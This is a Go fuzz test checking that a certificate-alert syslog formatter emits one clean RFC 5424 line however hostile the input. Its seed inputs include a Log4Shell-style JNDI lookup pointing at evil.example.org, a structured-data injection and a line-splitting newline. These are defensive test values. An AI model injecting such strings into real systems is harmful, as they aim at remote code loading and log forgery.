package syslog

import (
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"github.com/leodido/go-syslog/v4/rfc5424"

	"lapsewatch/alerts"
	"lapsewatch/alerts/alerttest"
	"lapsewatch/internal/digest"
)

func FuzzALineIsOneMessageWhateverItSays(f *testing.F) {
	f.Add("shop.example.com:443", "certificate expires", "Renew it.", false)
	f.Add(`a"] [evil@1 x="\`, "two\nlines", "${jndi:ldap://evil.example.org}", true)
	f.Add(strings.Repeat("\U0001F512", 20), "\xff\xfe", "\ufeff", true)
	f.Fuzz(func(t *testing.T, name, text, remedy string, datagram bool) {
		message := alerttest.Message()
		event := message.Events[0]
		event.ID, event.Finding.ID, event.Finding.Name, event.Finding.Check, event.Finding.Kind = name, text, name, text, remedy
		event.Finding.Message, event.Finding.Remedy, event.Finding.Owners = text, remedy, []string{name}
		limit := maxStream
		if datagram {
			limit = maxDatagram
		}
		format := formatter{
			options: defaults(), message: message, digest: digest.New(message, alerts.Env{}, 1), limit: limit,
			hostname: "watcher.example.com",
		}
		line := format.event(event)
		if len(line) > limit || !utf8.ValidString(line) || strings.ContainsFunc(line, unicode.IsControl) || strings.Contains(line, "${") {
			t.Errorf("the line of %d bytes is not clean: %q", len(line), line)
		}
		read, err := rfc5424.NewParser(rfc5424.WithCompliantMsg()).Parse([]byte(line))
		if err != nil {
			t.Fatalf("%v in %q", err, line)
		}
		if data := read.(*rfc5424.SyslogMessage).StructuredData; len(*data) != 1 || (*data)["lapsewatch@32473"]["severity"] != "critical" {
			t.Errorf("structured data %q", *data)
		}
	})
}
